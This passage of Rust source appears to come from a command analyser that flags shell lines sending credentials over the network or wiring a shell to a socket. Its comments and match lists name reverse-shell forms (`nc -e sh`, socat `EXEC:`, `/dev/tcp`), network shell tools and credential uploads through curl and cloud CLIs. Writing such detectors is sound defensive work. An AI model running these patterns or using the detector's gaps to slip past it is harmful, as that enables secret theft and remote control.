    if let Some(flow) = cloud_file_parameter(name, &args.positionals, words, cwd, ctx, files) {
        return Some(flow);
    }
    if !is_network_client(name, &args.positionals) {
        return None;
    }
    let httpie = matches!(name, "http" | "https" | "xh" | "xhs" | "httpie");
    // A remote shell's command line (ssh's, or `gcloud compute ssh VM --command …`).
    let remote_shell = name == "ssh"
        || (name == "gcloud" && args.positionals.get(..2) == Some(&["compute", "ssh"]));
    let sink = |channel| FlowSink::Network {
        tool: name.to_owned(),
        channel,
    };
    // Where the request goes: a credential in an authentication slot is excused only when
    // it can be going to the service it authenticates to (see `identity_destination_ok`).
    let hosts: Vec<&str> = words
        .iter()
        .filter(|w| w.exact)
        .filter_map(|w| url_host(&w.text))
        .collect();
    // The option whose value the next word is: (an authentication slot, its name).
    let mut pending: Option<(bool, &str)> = None;
    let mut script = false;
    for w in words {
        let t = w.text.as_str();
        if std::mem::take(&mut script)
            && let Some(source) = transfer_script_source(t, cwd, ctx, files)
        {
            return Some(Flow {
                source,
                sink: sink(Channel::Upload),
            });
        }
        if is_transfer_script_option(name, t) {
            script = true;
        }
        let (identity, destination) = match pending.take() {
            // A local file the client only uses or writes (the socket it talks through, a CA
            // bundle, the output file) is not part of the request.
            Some((false, opt)) if local_only_option(name, opt) => continue,
            Some((identity, opt)) => (identity && !sends_file(name, opt, t), false),
            None if t.starts_with('-') && t.len() > 1 => {
                // A short cluster is the value-taking option it ends in, read with the
                // tool's grammar (`curl -sH 'Authorization: …'` is `-H`; `-sHX: y` has its
                // value attached).
                let cluster = crate::cli::cluster_value_option(name, t);
                // The option name is literal even when its attached value is not.
                let opt = cluster.map_or_else(|| t.split('=').next().unwrap_or(t), |(o, _)| o);
                let attached = cluster.map_or(t.contains('='), |(_, a)| a);
                // `--unix-socket=/var/run/docker.sock`, `--output=f`: as the separate value.
                if attached && local_only_option(name, opt) {
                    continue;
                }
                let identity = is_identity_option(name, opt)
                    && !t
                        .split_once('=')
                        .is_some_and(|(_, v)| sends_file(name, opt, v));
                if !attached {
                    if identity || takes_value(name, opt) {
                        pending = Some((identity, opt));
                        continue;
                    }
                    if words_source([w]).is_none() {
                        continue;
                    }
                }
                (identity, false)
            }
            None if httpie && is_httpie_header(t) => continue,
            None => (false, true),
        };
        for source in carried_secrets(w, destination) {
            let excused = (identity
                && !leaks_from_identity_slot(source)
                && identity_destination_ok(source, &hosts))
                // A remote shell's command line carries variables to the user's own machine.
                || (remote_shell && matches!(source, FlowSource::CredentialVariable { .. }));
            if !excused {
                return Some(Flow {
                    source: source.clone(),
                    sink: sink(Channel::Argument),
                });
            }
        }
        if identity {
            continue;
        }
        if w.exact
            && let Some(source) = file_refs(t).find_map(|p| file_source(p, cwd, ctx, files))
        {
            return Some(Flow {
                source,
                sink: sink(Channel::Upload),
            });
        }
    }
    None
}

/// A credential file a cloud CLI reads into a request parameter: aws reads any parameter
/// given as `file://PATH`/`fileb://PATH` (`aws sns publish --message file://KEY`), az any
/// given as `@PATH` (`az rest --body @KEY`), gcloud a `--data-file` (`--data-file=KEY`). The
/// parameter's value goes to the cloud API, whichever service it is, so a credential there
/// leaves the machine like `curl -d @KEY`. Storing a secret in the provider's own secret
/// store or key service is what such a file is for (`aws secretsmanager create-secret
/// --secret-string file://creds.json`, `gcloud secrets versions add --data-file`), and
/// `aws configure` writes local settings: those are not judged here.
fn cloud_file_parameter(
    name: &str,
    positionals: &[&str],
    words: &[Word],
    cwd: &Cwd,
    ctx: &Context,
    files: &LineState,
) -> Option<Flow> {
    if cloud_stores_secret(name, positionals) {
        return None;
    }
    cloud_parameter_files(name, words)
        .into_iter()
        .find_map(|p| file_source(p, cwd, ctx, files))
        .map(|source| Flow {
            source,
            sink: FlowSink::Network {
                tool: name.to_owned(),
                channel: Channel::Upload,
            },
        })
}

/// Whether a cloud CLI call stores its parameter files in the provider's own secret store or
/// key service, or in local settings — what such files are for, so not a flow out.
fn cloud_stores_secret(name: &str, positionals: &[&str]) -> bool {
    matches!(
        (
            name,
            positionals.first().copied(),
            positionals.get(1).copied()
        ),
        ("aws", Some("configure"), _)
            | (
                "aws",
                Some("secretsmanager"),
                Some("create-secret" | "put-secret-value" | "update-secret")
            )
            | ("aws", Some("ssm"), Some("put-parameter"))
            | ("aws" | "gcloud", Some("kms"), _)
            | ("gcloud", Some("secrets"), _)
            | ("az", Some("keyvault"), _)
    )
}

/// The local files a cloud CLI reads into request parameters: aws's `file://PATH` and
/// `fileb://PATH` values (any parameter), az's `@PATH`, gcloud's `--data-file PATH`. One
/// reading for the file-source check and the stdin check, so `file:///dev/stdin` is the pipe.
fn cloud_parameter_files<'w>(name: &str, words: &'w [Word]) -> Vec<&'w str> {
    let mut out = Vec::new();
    let mut data_file = false;
    for w in words.iter().filter(|w| w.exact) {
        let t = w.text.as_str();
        let value = t.split_once('=').map_or(t, |(_, v)| v);
        let path = match name {
            "aws" => value
                .strip_prefix("file://")
                .or_else(|| value.strip_prefix("fileb://")),
            "az" => value.strip_prefix('@').filter(|p| *p != "-"),
            "gcloud" if data_file => Some(t),
            "gcloud" => t.strip_prefix("--data-file="),
            _ => return out,
        };
        data_file = t == "--data-file";
        out.extend(path);
    }
    out
}

/// An identity option whose value is a file the request carries: curl reads `-H @FILE`'s
/// lines into the request's headers and `-K FILE` as its own options (its `header =`,
/// `data =`, `user =` lines are sent), so a credential file there reaches the network like
/// `-d @FILE`. `--netrc-file` stays an identity: curl sends only the login of the host it
/// calls.
fn sends_file(name: &str, opt: &str, value: &str) -> bool {
    name == "curl"
        && ((matches!(opt, "-H" | "--header") && value.starts_with('@'))
            || matches!(opt, "-K" | "--config"))
}

/// The options of an HTTP client whose value is a local file it talks through, trusts or
/// writes, never sends: curl's `--unix-socket /var/run/docker.sock` is the transport (what
/// the request does there is judged by the method rules, `argdanger.rs`), `--cacert` the CA
/// bundle, `-o`/`-D`/`--trace` what it writes. Spelled exactly (an abbreviation keeps the
/// value a candidate file: fails closed).
fn local_only_option(name: &str, opt: &str) -> bool {
    match name {
        "curl" => matches!(
            opt,
            "--unix-socket"
                | "--abstract-unix-socket"
                | "--cacert"
                | "--capath"
                | "--crlfile"
                | "-o"
                | "--output"
                | "--output-dir"
                | "-D"
                | "--dump-header"
                | "--trace"
                | "--trace-ascii"
                | "--stderr"
                | "-c"
                | "--cookie-jar"
                | "--etag-save"
                | "--libcurl"
        ),
        "wget" => matches!(
            opt,
            "-O" | "--output-document"
                | "-o"
                | "--output-file"
                | "-a"
                | "--append-output"
                | "-P"
                | "--directory-prefix"
                | "--ca-certificate"
                | "--ca-directory"
                | "--save-cookies"
        ),
        "http" | "https" | "xh" | "xhs" => {
            matches!(opt, "--unix-socket" | "-o" | "--output")
        }
        // A copy tool's filter patterns name what it leaves out (or keeps in) of a tree, not
        // a file it sends: `rsync -a --exclude .env ./ host:` keeps `.env` home.
        "rsync" | "aws" | "rclone" | "huggingface-cli" | "hf" => {
            matches!(opt, "--exclude" | "--include")
        }
        _ => false,
    }
}

/// Interactive file-transfer clients that read their commands from a script: an option's
/// value (`lftp -e|-c 'put F; bye'`, `smbclient -c 'put F'`) or lines on stdin (`sftp host
/// <<< 'put F'`, `echo 'put F' | ftp host`).
fn is_transfer_shell(name: &str) -> bool {
    matches!(
        name,
        "sftp" | "ftp" | "lftp" | "smbclient" | "ncftp" | "tnftp" | "pftp" | "yafc" | "tftp"
    )
}

/// The options of a transfer shell whose value is its command script.
fn is_transfer_script_option(name: &str, opt: &str) -> bool {
    matches!(
        (name, opt),
        ("lftp", "-e" | "-c") | ("smbclient", "-c" | "--command")
    )
}

/// The first credential among the local files a transfer script uploads: `put`/`reput`/
/// `append`/`send LOCAL [REMOTE]`, every operand of `mput`, and the source of a reverse
/// `mirror -R|--reverse LOCAL [REMOTE]`. Commands are separated by `;` and newlines; a
/// download (`get`, `mirror` without `-R`) sends nothing.
fn transfer_script_source(
    script: &str,
    cwd: &Cwd,
    ctx: &Context,
    files: &LineState,
) -> Option<FlowSource> {
    script.split(['\n', ';']).find_map(|command| {
        let words: Vec<&str> = command.split_whitespace().collect();
        let (verb, rest) = words.split_first()?;
        let operands: Vec<&str> = rest
            .iter()
            .copied()
            .filter(|w| !w.starts_with('-'))
            .collect();
        let reverse = rest.iter().any(|w| matches!(*w, "-R" | "--reverse"));
        let sent: Vec<&str> = match verb.to_ascii_lowercase().as_str() {
            "put" | "reput" | "append" | "send" => operands.into_iter().take(1).collect(),
            "mput" => operands,
            "mirror" if reverse => operands.into_iter().take(1).collect(),
            _ => Vec::new(),
        };
        sent.into_iter()
            .find_map(|f| file_source(f, cwd, ctx, files))
    })
}

/// httpie's `Header:value` request item (the first separator is a lone `:`).
fn is_httpie_header(item: &str) -> bool {
    let Some(i) = item.find([':', '=', '@']) else {
        return false;
    };
    // `host:8080/path` is a URL with a port, not a header.
    item.get(i..).is_some_and(|r| {
        r.starts_with(':')
            && !r.starts_with(":=")
            && !r
                .get(1..)
                .is_some_and(|v| v.starts_with(|c: char| c.is_ascii_digit()))
    }) && !item
        .get(..i)
        .is_some_and(|k| k.contains('/') || k.is_empty())
        && !item.contains("://")
}

/// curl's short options that read a request part (body, form, upload, config, headers) from
/// a value, as they may end a cluster of flags (`-sd @-`).
fn clustered_value_option(letter: char) -> Option<&'static str> {
    match letter {
        'd' => Some("-d"),
        'F' => Some("-F"),
        'T' => Some("-T"),
        'K' => Some("-K"),
        'H' => Some("-H"),
        _ => None,
    }
}

/// The authenticated read `argv` is, with the host it reads (lower-cased): an HTTP client
/// whose request carries credentials ([`carries_credentials`]) and prints the response to
/// stdout. A client that itself sends its stdin is a sender, not a source.
fn relay_source(argv: &[String]) -> Option<(FlowSource, String)> {
    let (first, rest) = argv.split_first()?;
    let name = crate::resolve::command_name(first);
    if matches!(
        name.as_str(),
        "curl" | "wget" | "http" | "https" | "xh" | "xhs" | "curlie"
    ) {
        // Cheapest tests first: most requests carry no credentials.
        if !carries_credentials(&name, rest) || !prints_response(&name, rest) {
            return None;
        }
        let host = rest.iter().find_map(|a| url_host(a))?.to_ascii_lowercase();
        let words: Vec<Word> = rest.iter().map(Word::lit).collect();
        if stdin_sink(&name, &words).is_some() {
            return None;
        }
        let source = FlowSource::AuthenticatedRead {
            command: argv.join(" "),
            endpoint: host.clone(),
        };
        return Some((source, host));
    }
    // `mosquitto_sub -h BROKER -t '#'`: every message the broker relays (telemetry,
    // commands, payloads), read with the client's login there.
    if name == "mosquitto_sub" {
        let host = rest
            .iter()
            .position(|w| w == "-h" || w == "--host")
            .and_then(|i| rest.get(i + 1))
            .filter(|h| !crate::contained::is_loopback_host(h))?;
        let source = FlowSource::AuthenticatedRead {
            command: argv.join(" "),
            endpoint: host.clone(),
        };
        return Some((source, host.to_ascii_lowercase()));
    }
    // A service's CLI nothing else models, exporting its data in bulk (`n8n export:workflow
    // --all`): read with the credentials the CLI is configured with. (The byte test only
    // spares the full reading on lines that cannot be exports.)
    let maybe_export = rest.iter().take(4).any(|w| {
        ["export", "dump", "backup"].iter().any(|v| {
            w.as_bytes()
                .windows(v.len())
                .any(|win| win.eq_ignore_ascii_case(v.as_bytes()))
        })
    });
    if maybe_export && crate::unknown_cli::unmodelled(&name) {
        let texts: Vec<&str> = rest.iter().map(String::as_str).collect();
        if crate::unknown_cli::bulk_export(&name, &texts) {
            let source = FlowSource::AuthenticatedRead {
                command: argv.join(" "),
                endpoint: format!("the service `{name}` talks to"),
            };
            return Some((source, String::new()));
        }
    }
    None
}

/// The sink `argv` is for data read from `host`: a network client sending its stdin
/// ([`stdin_sink`]) to somewhere else — a request to the same host (read, transform, write
/// back) is the account's own round trip.
fn relay_sink(argv: &[String], host: &str) -> Option<(Vec<String>, FlowSink)> {
    let (first, rest) = argv.split_first()?;
    let name = crate::resolve::command_name(first);
    let words: Vec<Word> = rest.iter().map(Word::lit).collect();
    let sink = stdin_sink(&name, &words)?;
    let same = rest
        .iter()
        .filter_map(|a| url_host(a))
        .any(|h| h.eq_ignore_ascii_case(host));
    (!same).then(|| (argv.to_vec(), sink))
}

/// Whether an HTTP client's request carries credentials: an auth-bearing header
/// (`Authorization`, `Cookie`, a name with `token`, `key`, `secret`, `auth`, `session` or
/// `password` in it), a user and password (`-u`, `--user`, `--http-user`, httpie's `-a`), a
/// bearer option, a cookie jar, a client certificate, `.netrc`, credentials in the URL's user
/// part, or a credential-named query parameter (`?api_key=…`, `&access_token=…`).
fn carries_credentials(name: &str, rest: &[String]) -> bool {
    let auth_header = |h: &str| {
        let Some((n, v)) = h.split_once(':') else {
            return false;
        };
        let n = n.trim().to_ascii_lowercase();
        !v.trim().is_empty()
            && (n == "authorization"
                || n == "cookie"
                || ["token", "key", "secret", "auth", "session", "password"]
                    .iter()
                    .any(|p| n.contains(p)))
    };
    let credential_query = |url: &str| {
        url.split_once("://").is_some_and(|(_, r)| {
            let authority = r.split(['/', '?', '#']).next().unwrap_or("");
            authority
                .rsplit_once('@')
                .is_some_and(|(u, _)| u.contains(':'))
        }) || url
            .split_once('?')
            .map(|(_, q)| q.split('#').next().unwrap_or(q))
            .is_some_and(|q| {
                q.split('&').any(|kv| {
                    let k = kv.split('=').next().unwrap_or("").to_ascii_lowercase();
                    matches!(
                        k.as_str(),
                        "token"
                            | "access_token"
                            | "api_key"
                            | "apikey"
                            | "key"
                            | "secret"
                            | "client_secret"
                            | "private_token"
                            | "password"
                            | "auth"
                    )
                })
            })
    };
    let httpie = matches!(name, "http" | "https" | "xh" | "xhs");
    for (i, a) in rest.iter().enumerate() {
        let a = a.as_str();
        if credential_query(a) {
            return true;
        }
        let (opt, inline) = match a.split_once('=').filter(|(o, _)| o.starts_with("--")) {
            Some((o, v)) => (o, Some(v)),
            None => (a, None),
        };
        let value = || inline.or_else(|| rest.get(i + 1).map(String::as_str));
        match opt {
            "-H" | "--header" if value().is_some_and(auth_header) => return true,
            "-u" | "--user" | "--http-user" | "--http-password" | "--password"
            | "--oauth2-bearer" | "-b" | "--cookie" | "--load-cookies" | "-E" | "--cert" | "-n"
            | "--netrc" | "--netrc-file" | "--aws-sigv4" => return true,
            "-a" | "--auth" if httpie => return true,
            _ if opt.starts_with("-H")
                && opt.len() > 2
                && !opt.starts_with("--")
                && auth_header(opt.get(2..).unwrap_or("")) =>
            {
                return true;
            }
            _ if opt.starts_with("-u") && opt.len() > 2 && !opt.starts_with("--") => return true,
            _ if httpie && is_httpie_header(a) && auth_header(a) => return true,
            _ => {}
        }
    }
    false
}

/// Whether an HTTP client prints the response on stdout (curl without `-o`/`-O`, or with
/// `-o -`; wget only with `-O -`; httpie without `--download`/`--output`).
fn prints_response(name: &str, rest: &[String]) -> bool {
    let mut prints = name != "wget";
    for (i, a) in rest.iter().enumerate() {
        let a = a.as_str();
        let next_is_dash = || rest.get(i + 1).is_some_and(|v| v.as_str() == "-");
        match name {
            "wget" => {
                // `-O -`, `-O-`, `-qO-`, `-qO -`, `--output-document=-`: the document to stdout.
                let short = a.starts_with('-') && !a.starts_with("--");
                if a == "--output-document=-"
                    || (short && a.ends_with("O-"))
                    || (short && a.ends_with('O') && next_is_dash())
                {
                    prints = true;
                }
            }
            "http" | "https" | "xh" | "xhs" => {
                if matches!(a, "-d" | "--download" | "-o" | "--output")
                    || a.starts_with("--output=")
                {
                    return false;
                }
            }
            _ => {
                if a == "--output" || a == "-o" {
                    if !next_is_dash() {
                        return false;
                    }
                } else if a.starts_with("--output=") {
                    if a != "--output=-" {
                        return false;
                    }
                } else if matches!(a, "-O" | "--remote-name" | "--remote-name-all" | "-J") {
                    return false;
                } else if a.starts_with('-')
                    && !a.starts_with("--")
                    && a.len() > 2
                    && a.bytes().skip(1).all(|b| b.is_ascii_alphabetic())
                {
                    // A cluster ending in `o` takes the next word as its file (`-sLo out`).
                    if a.ends_with('o') && !next_is_dash() || a.contains('O') {
                        return false;
                    }
                }
            }
        }
    }
    prints
}

/// Whether a network client sends what it reads on stdin. curl and wget read stdin only
/// when told to (`-d @-`, `-T -`, `-F f=@-`, `--post-file=-`): `env | curl -s -o /dev/null
/// -w '%{http_code}' URL` sends nothing. httpie, netcat, ssh and the like send their stdin.
pub(crate) fn stdin_sink(name: &str, words: &[Word]) -> Option<FlowSink> {
    if !maybe_network_client(name) {
        return None;
    }
    let args = Args::parse_by(name, words, |w| w.text.as_str());
    // `env | aws sqs send-message --message-body file:///dev/stdin`: whatever the service,
    // a parameter read from stdin carries the pipe to the cloud API.
    let cloud_stdin = matches!(name, "aws" | "az" | "gcloud")
        && !cloud_stores_secret(name, &args.positionals)
        && cloud_parameter_files(name, words).into_iter().any(|p| {
            matches!(
                p,
                "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0" | "/proc/thread-self/fd/0"
            )
        });
    if !cloud_stdin
        && (!is_network_client(name, &args.positionals) || !reads_stdin(name, words, &args))
    {
        return None;
    }
    Some(FlowSink::Network {
        tool: name.to_owned(),
        channel: Channel::Stdin,
    })
}

/// True when a network client (already recognised) reads its standard input.
fn reads_stdin(name: &str, words: &[Word], args: &Args<'_>) -> bool {
    let stdin_file = |v: &str| {
        matches!(
            v,
            "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0" | "/proc/thread-self/fd/0"
        )
    };
    // Values such as `@-`, `name=@-`, `name=<-`, `name@-`.
    let stdin_ref =
        |v: &str| file_refs(v).any(&stdin_file) || v.ends_with("@-") || v.ends_with("<-");
    let values = || {
        let mut out: Vec<(&str, &str)> = Vec::new();
        let mut it = words.iter().peekable();
        while let Some(w) = it.next() {
            let t = w.text.as_str();
            if let Some((opt, v)) = t.split_once('=').filter(|(o, _)| o.starts_with("--")) {
                out.push((opt, v));
            } else if t.starts_with('-') && t.len() > 1 {
                if let Some(next) = it.peek() {
                    out.push((t, next.text.as_str()));
                }
                // `-d@-`: a short option with its value attached.
                if !t.starts_with("--") && t.len() > 2 {
                    out.push((t.get(..2).unwrap_or(t), t.get(2..).unwrap_or("")));
                    // `-sd @-`, `-sSd@-`: flags clustered before an option that takes a value
                    // (unless the first letter already took the rest as its value).
                    let inner = (!takes_value(name, t.get(..2).unwrap_or(t)))
                        .then(|| {
                            t.char_indices()
                                .skip(2)
                                .find_map(|(k, c)| clustered_value_option(c).map(|o| (k, o)))
                        })
                        .flatten();
                    if let Some((k, opt)) = inner {
                        match t.get(k + 1..).filter(|rest| !rest.is_empty()) {
                            Some(rest) => out.push((opt, rest)),
                            None => {
                                if let Some(next) = it.peek() {
                                    out.push((opt, next.text.as_str()));
                                }
                            }
                        }
                    }
                }
            }
        }
        out
    };
    match name {
        "curl" => values().iter().any(|(opt, v)| match *opt {
            "-T" | "--upload-file" => stdin_file(v) || *v == ".",
            "-K" | "--config" => stdin_file(v),
            // `-H @-`: header lines read from stdin are sent.
            "-H" | "--header" => v.strip_prefix('@').is_some_and(stdin_file),
            o if o.starts_with("--data") || matches!(o, "-d" | "--json" | "-F" | "--form") => {
                stdin_ref(v)
            }
            _ => false,
        }),
        "wget" => values().iter().any(|(opt, v)| {
            matches!(*opt, "--post-file" | "--body-file" | "-i" | "--input-file") && stdin_file(v)
        }),
        "aws" | "gsutil" | "rclone" | "azcopy" | "s3cmd" => {
            args.positionals.iter().any(|p| stdin_file(p)) || name == "rclone"
        }
        "gh" | "glab" => {
            args.positionals.iter().any(|p| stdin_file(p))
                || values().iter().any(|(_, v)| stdin_file(v) || stdin_ref(v))
                // `cat notes | gh gist create`: with no file named, the gist is its stdin.
                || (name == "gh" && gist_from_stdin(words))
        }
        "http" | "https" | "xh" | "xhs" | "httpie" => !args.has_any(&["--ignore-stdin", "-I"]),
        _ => true,
    }
}

/// A secret store's setter that takes the value from its standard input when no value option
/// is given: `gh secret set NAME`, `gh variable set NAME`, `glab variable set|update KEY`,
/// `vercel env add NAME [ENV]`, `fly secrets import`.
fn stores_stdin_as_secret(name: &str, words: &[Word]) -> bool {
    let texts: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
    let given = |opts: &[&str]| {
        texts.iter().any(|t| {
            opts.iter()
                .any(|o| t == o || t.starts_with(&format!("{o}=")))
        })
    };
    match (name, texts.as_slice()) {
        ("gh", ["secret" | "variable", "set", ..]) => !given(&["-b", "--body", "-f", "--env-file"]),
        ("glab", ["variable", "set" | "update", ..]) => !given(&["-v", "--value"]),
        ("vercel", ["env", "add", ..]) | ("fly" | "flyctl", ["secrets", "import", ..]) => true,
        _ => false,
    }
}

/// `gh gist create [-d DESC] [-f NAME] [-p] [-w]` naming no file: gh reads the gist's one
/// file from its standard input. Read by gh's own option table (`-d`/`--desc` and
/// `-f`/`--filename` take a value), so a description is not mistaken for a file.
fn gist_from_stdin(words: &[Word]) -> bool {
    let mut operands = Vec::new();
    let mut it = words.iter();
    while let Some(w) = it.next() {
        let t = w.text.as_str();
        match t {
            "-d" | "--desc" | "-f" | "--filename" => {
                let _ = it.next();
            }
            _ if t.starts_with('-') && t.len() > 1 => {}
            _ => operands.push(t),
        }
    }
    operands == ["gist", "create"]
}

/// Network tools whose output is data from the network (for `… | sh`).
pub(crate) fn receives_network(name: &str, args: &[String]) -> bool {
    matches!(
        name,
        "curl"
            | "wget"
            | "fetch"
            | "http"
            | "https"
            | "xh"
            | "aria2c"
            | "nc"
            | "ncat"
            | "netcat"
            | "nc.traditional"
            | "nc.openbsd"
            | "socat"
            | "lwp-request"
            | "GET"
            | "telnet"
            | "cryptcat"
            | "websocat"
    ) || (name == "openssl" && args.first().is_some_and(|a| a == "s_client"))
}

/// Raw socket tools (a shell in the same pipeline as one of these talks to the network).
fn is_socket_tool(name: &str, argv: &[String]) -> bool {
    matches!(
        name,
        "nc" | "ncat"
            | "netcat"
            | "nc.traditional"
            | "nc.openbsd"
            | "socat"
            | "telnet"
            | "cryptcat"
            | "websocat"
    ) || (name == "openssl" && argv.get(1).is_some_and(|a| a == "s_client"))
}

/// `nc -e sh host port`, `ncat --exec …`, `socat TCP:… EXEC:…`: a network tool that runs a
/// program on the connection.
pub(crate) fn exec_on_socket(name: &str, words: &[Word]) -> Option<Flow> {
    let endpoint = || {
        words
            .iter()
            .filter(|w| !w.text.starts_with('-'))
            .map(|w| w.text.as_str())
            .collect::<Vec<_>>()
            .join(" ")
    };
    match name {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "cryptcat" | "pwncat" => {
            let mut it = words.iter();
            while let Some(w) = it.next() {
                let t = w.text.as_str();
                let program = if let Some(v) = ["--exec=", "--sh-exec=", "--lua-exec="]
                    .iter()
                    .find_map(|p| t.strip_prefix(p))
                {
                    Some(v.to_owned())
                } else if matches!(t, "--exec" | "--sh-exec" | "--lua-exec")
                    || (t.starts_with('-')
                        && !t.starts_with("--")
                        && t.ends_with(['e', 'c'])
                        && t.len() > 1)
                {
                    Some(it.next().map_or_else(String::new, |v| v.text.clone()))
                } else {
                    None
                };
                if let Some(program) = program {
                    return Some(Flow {
                        source: FlowSource::Network {
                            endpoint: endpoint(),
                        },
                        sink: FlowSink::Execution { program },
                    });
                }
            }
            None
        }
        "socat" => {
            let kind = |w: &Word| {
                w.text
                    .split([':', ','])
                    .next()
                    .unwrap_or("")
                    .to_ascii_uppercase()
            };
            let program = words.iter().find(|w| {
                let k = kind(w);
                k == "EXEC" || k == "SYSTEM"
            })?;
            let net = words.iter().find(|w| {
                let k = kind(w);
                [
                    "TCP", "UDP", "SCTP", "OPENSSL", "SSL", "SOCKS", "PROXY", "DCCP", "VSOCK", "IP",
                ]
                .iter()
                .any(|p| k.starts_with(p))
            })?;
            Some(Flow {
                source: FlowSource::Network {
                    endpoint: net.text.clone(),
                },
                sink: FlowSink::Execution {
                    program: program
                        .text
                        .split_once(':')
                        .map_or(program.text.clone(), |(_, p)| p.to_owned()),
                },
            })
        }
        // `socket -p PROG host port` / `socket -svp PROG port`: PROG's stdin and stdout are
        // the connection (getopt cluster: `p` last takes the next word).
        "socket" => {
            let mut it = words.iter();
            while let Some(w) = it.next() {
                let t = w.text.as_str();
                if t.starts_with('-')
                    && !t.starts_with("--")
                    && t.len() > 1
                    && let Some(i) = t.find('p')
                {
                    let program = match t.get(i + 1..) {
                        Some(attached) if !attached.is_empty() => attached.to_owned(),
                        _ => it.next().map_or_else(String::new, |v| v.text.clone()),
                    };
                    return Some(Flow {
                        source: FlowSource::Network {
                            endpoint: endpoint(),
                        },
                        sink: FlowSink::Execution { program },
                    });
                }
            }
            None
        }
        // websocat's command address types (`sh-c:CMD`, `exec:PROG`, `cmd:CMD`) wire a
        // program to the socket, like socat's `EXEC:`.
        "websocat" => {
            let program = words.iter().find_map(|w| {
                let (kind, rest) = w.text.split_once(':')?;
                matches!(kind.to_ascii_lowercase().as_str(), "sh-c" | "exec" | "cmd")
                    .then(|| rest.to_owned())
            })?;
            Some(Flow {
                source: FlowSource::Network {
                    endpoint: endpoint(),
                },
                sink: FlowSink::Execution { program },
            })
        }
        _ => None,
    }
}

/// tree-sitter-bash has no `<>` (open read-write) redirection operator, so `exec 3<>/dev/tcp/h/p`
/// does not parse. For a line that fails to parse, this returns the same text with each `<>`
/// operator (outside quotes and comments) written as `< ` — the same file opened on the same
/// descriptor, read side only, which is what the analysis needs (a socket opened for input is
/// data from the network). `None` when there is no such operator.
pub(crate) fn without_rw_redirects(src: &str) -> Option<String> {
    let bytes = src.as_bytes();
    let mut out = bytes.to_vec();
    let (mut single, mut double, mut escaped, mut comment) = (false, false, false, false);
    let mut changed = false;
    for (i, &b) in bytes.iter().enumerate() {
        if comment {
            comment = b != b'\n';
            continue;
        }
        if escaped {
            escaped = false;
            continue;
        }
        match b {
            b'\\' if !single => escaped = true,
            b'\'' if !double => single = !single,
            b'"' if !single => double = !double,
            b'#' if !single
                && !double
                && (i == 0 || bytes.get(i - 1).is_some_and(u8::is_ascii_whitespace)) =>
            {
                comment = true;
            }
            b'<' if !single
                && !double
                && bytes.get(i + 1) == Some(&b'>')
                && (i == 0 || bytes.get(i - 1) != Some(&b'<')) =>
            {
                if let Some(next) = out.get_mut(i + 1) {
                    *next = b' ';
                    changed = true;
                }
            }
            _ => {}
        }
    }
    if !changed {
        return None;
    }
    String::from_utf8(out).ok()
}

/// Parses `src`; when that fails, parses it again repaired where bash is written in a way the
/// grammar lacks: `<>` redirections read as `<` ([`without_rw_redirects`]), here-strings
/// after other redirects moved before them ([`herestrings_first`]), `[` tests with quoted
/// operators read as commands ([`test_brackets_as_words`]). Returns the tree and,
/// when a repaired text was used, that text (node offsets refer to it). A line still failing
/// keeps the first tree (its error makes the line unknown).
pub(crate) fn parse_repairing(
    parser: &mut tree_sitter::Parser,
    src: &str,
) -> Option<(tree_sitter::Tree, Option<String>)> {
    let tree = parser.parse(src, None)?;
    if !tree.root_node().has_error() {
        return Some((tree, None));
    }
    let mut text: Option<String> = None;
    let mut current = tree.clone();
    if let Some(fixed) = without_rw_redirects(src)
        && let Some(t) = parser.parse(&fixed, None)
    {
        if !t.root_node().has_error() {
            return Some((t, Some(fixed)));
        }
        current = t;
        text = Some(fixed);
    }
    // Here-strings after other redirects, then `[` tests with quoted operators.
    let repairs: [fn(&str, Node<'_>) -> Option<String>; 2] =
        [herestrings_first, test_brackets_as_words];
    for repair in repairs {
        let base = text.as_deref().unwrap_or(src);
        if let Some(fixed) = repair(base, current.root_node())
            && let Some(t) = parser.parse(&fixed, None)
        {
            if !t.root_node().has_error() {
                return Some((t, Some(fixed)));
            }
            current = t;
            text = Some(fixed);
        }
    }
    // `(cd "$x") done`, `{ …; } fi`, `done done`: a compound command ends itself, so bash
    // takes a closing keyword right after it; the grammar wants a `;` there. Each round adds
    // the `;` before every such keyword the failed tree shows (nested ones need more rounds).
    let mut base = text.unwrap_or_else(|| src.to_owned());
    for _ in 0..4 {
        let Some(fixed) = terminate_compounds(&base, current.root_node()) else {
            break;
        };
        let t = parser.parse(&fixed, None)?;
        if !t.root_node().has_error() {
            return Some((t, Some(fixed)));
        }
        current = t;
        base = fixed;
    }
    Some((tree, None))
}

/// `[ "$a" \< "$b" ]`, `[ a "<" b ]`, `[ \( -f a \) -o -f b ]`: the grammar parses `[ … ]` as
/// an expression and fails on the string comparisons and grouping that `test` takes as
/// quoted operators, though bash runs `[` as an ordinary builtin whatever its arguments. This
/// returns the text with each such `[` (a `[` token the failed tree holds in an error, in
/// command position, followed by a blank) written `\[`: the same command name after quote
/// removal, now read as a plain command with its arguments. `None` when there is none. Only
/// a `[` that starts a command is touched (after a separator, an opening keyword or at the
/// start), so a subscript or a pattern keeps its meaning.
fn test_brackets_as_words(src: &str, root: Node<'_>) -> Option<String> {
    let bytes = src.as_bytes();
    let mut at: Vec<usize> = Vec::new();
    let mut stack = vec![root];
    while let Some(node) = stack.pop() {
        if !node.has_error() {
            continue;
        }
        let mut cursor = node.walk();
        for c in node.children(&mut cursor) {
            stack.push(c);
            if node.kind() != "ERROR" || c.is_named() || c.kind() != "[" {
                continue;
            }
            let start = c.start_byte();
            if !matches!(bytes.get(start + 1), Some(b' ' | b'\t'))
                || !in_command_position(src, start)
            {
                continue;
            }
            at.push(start);
        }
    }
    inserted_at(src, at, '\\')
}

/// Whether a word starting at byte `at` is in command position: at the start of the text,
/// after a separator or an opening bracket (`;`, `&`, `|`, newline, `(`, `{`, backquote), or
/// after a keyword that a command follows (`if`, `then`, `elif`, `else`, `while`, `until`,
/// `do`, `!`).
fn in_command_position(src: &str, at: usize) -> bool {
    let before = src.get(..at).unwrap_or("").trim_end_matches([' ', '\t']);
    let Some(last) = before.chars().last() else {
        return true;
    };
    if matches!(last, ';' | '&' | '|' | '\n' | '(' | '{' | '`') {
        return true;
    }
    let word = before
        .rsplit(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | ')'))
        .next()
        .unwrap_or("");
    matches!(
        word,
